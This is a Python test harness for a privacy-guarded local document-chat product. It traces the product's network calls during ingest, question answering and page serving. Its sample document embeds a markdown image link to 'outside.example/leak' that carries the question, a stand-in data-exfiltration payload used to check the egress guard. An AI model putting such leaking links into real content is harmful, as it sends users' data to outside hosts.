"""The whole job of this product, done in an observed process: ingest, ask, serve a page."""

import json
import re
import shutil
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass, replace
from functools import partial
from pathlib import Path

from app.data_folder.layout import DataFolder
from app.governance.audit.reading import records
from app.governance.audit.records import RecordKind
from app.privacy.allowed import Allowed
from app.privacy.attempts import AttemptFile
from app.privacy.check.browser_page import shown
from app.privacy.namespace import is_apart

_SAMPLE = """# Handbook of the privacy check

## Leave

Full-time employees have 28 working days of annual leave in each calendar year.

![leave](http://outside.example/leak?question=leave)
"""
_QUESTION = "How many days of annual leave do full-time employees have?"
_CALL = re.compile(r"\b(connect|sendto|sendmsg|sendmmsg)\(.*?sa_family=(AF_\w+)(.*)")
_PLACE = re.compile(r'inet_addr\("([^"]+)"\)|inet_pton\(AF_INET6, "([^"]+)"')
_READY = re.compile(r"Strongroom is ready: (http://\S+)")  # the web chat's own line
_STEP_SECONDS = 300


@dataclass(frozen=True, slots=True)
class Step:
    """One command; `foreign` lists what it turned to beyond this machine: addresses that strace
    saw, and attempts that the guard refused.
    """

    name: str
    done: bool
    foreign: tuple[str, ...]
    calls: int  # network calls to an address that strace saw; 0 without strace
    apart: bool | None = None  # whether the process that serves has a network namespace of its own
    browser: bool | None = None  # whether a browser showed the page; None without one
    said: str = ""


def do_job(home: Path, *, trace: bool, browser: str | None) -> list[Step]:
    """Ingest a document of our own into `home`, ask about it, and serve the page, to `browser`."""
    samples = home.parent / "samples"
    samples.mkdir()
    (samples / "handbook.md").write_text(_SAMPLE, "utf-8")
    ours = [sys.executable, "-m", "app.cli", "--home", str(home)]
    return [
        _step("ingest", [*ours, "ingest", str(samples)], home, trace, _run),
        _step("ask", [*ours, "ask", _QUESTION, "--json"], home, trace, _run),
        _step("serve", [*ours, "serve", "--port", "0"], home, trace,
              partial(_serve, home=home, browser=browser)),
    ]  # fmt: skip


@dataclass(frozen=True, slots=True)
class _Done:
    done: bool
    said: str = ""
    apart: bool | None = None
    browser: bool | None = None


def _step(
    name: str, command: list[str], home: Path, trace: bool, run: Callable[[list[str]], _Done]
) -> Step:
    log = home.parent / f"{name}.strace"
    if trace:
        command = ["strace", "-f", "-qq", "-s", "0", "-e", "trace=network", "-o", str(log),
                   *command]  # fmt: skip
    before = _refused(home)
    came = run(command)
    refused = [f"{it} (refused)" for key, it in _refused(home).items() if key not in before]
    if trace and not log.exists():
        came = replace(came, done=False, said="strace left no record of it")
    calls, foreign = foreign_calls(log.read_text("utf-8", "replace") if log.exists() else "")
    seen = tuple(dict.fromkeys([*foreign, *refused]))
    return Step(name, came.done, seen, calls, came.apart, came.browser, said=came.said)


def _refused(home: Path) -> dict[str, str]:
    """What the guard has refused in this data folder: each attempt's id, and what it turned to."""
    recorded = records(DataFolder(home).audit, kind=RecordKind.EGRESS.value)
    waiting = {attempt.id: attempt.target for attempt in AttemptFile(home).read()}
    return {record.data["id"]: record.data["target"] for record in recorded} | waiting


def _run(command: list[str]) -> _Done:
    done = subprocess.run(
        command, capture_output=True, text=True, timeout=_STEP_SECONDS, check=False
    )
    if done.returncode:
        return _Done(False, (done.stderr.strip().splitlines() or ["no message"])[-1])
    return _Done("ask" not in command or bool(json.loads(done.stdout)["found"]))


def _serve(command: list[str], home: Path, browser: str | None) -> _Done:
    server = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert server.stdout is not None
    try:
        for line in server.stdout:
            if (found := _READY.search(line)) is not None:
                page = urllib.request.urlopen(found[1], timeout=60).read()
                owner = json.loads(DataFolder(home).owner.read_text("utf-8"))
                saw = "Strongroom" in shown(browser, found[1]) if browser else None
                done = b"Strongroom" in page and saw is not False
                return _Done(done, apart=is_apart(owner["pid"], owner.get("network")), browser=saw)
        return _Done(False, "the page did not come up")
    finally:
        _end_tree(server)


def _end_tree(process: "subprocess.Popen[str]") -> None:
    """End what strace follows too: it passes a signal on to nobody."""
    children = Path(f"/proc/{process.pid}/task/{process.pid}/children")
    if shutil.which("strace") and children.exists():
        for child in children.read_text().split():
            subprocess.run(["kill", child], check=False)
    process.terminate()
    try:
        process.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        process.kill()
        process.communicate()


def foreign_calls(trace: str) -> tuple[int, list[str]]:
    """Calls with an address in the words of strace, and the addresses beyond this machine."""
    own, calls, foreign = Allowed(), 0, dict[str, None]()
    for line in trace.splitlines():
        if (call := _CALL.search(line)) is None:
            continue
        if call[2] in ("AF_UNIX", "AF_NETLINK", "AF_UNSPEC"):
            continue
        calls += 1
        place = _PLACE.search(call[3])
        address = (place[1] or place[2]) if place else call[2]
        if not own.may_connect(address, 0):
            foreign[address] = None
    return calls, list(foreign)
